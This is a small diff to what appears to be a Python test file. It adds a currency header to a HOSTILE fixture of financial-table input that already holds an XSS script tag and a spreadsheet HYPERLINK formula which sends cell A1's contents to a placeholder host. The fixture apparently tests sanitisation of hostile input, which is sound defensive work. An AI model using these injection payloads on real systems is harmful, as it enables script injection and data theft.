@@ -35,6 +35,8 @@ OWN_TESTS = (
     "analysis/test_errata",
 )
 HOSTILE = """
+(JPY million)
+
 <script>alert("x")</script> revenue	1,234
 
 =HYPERLINK("http://x.invalid/?a="&A1,"net sales")	2,345
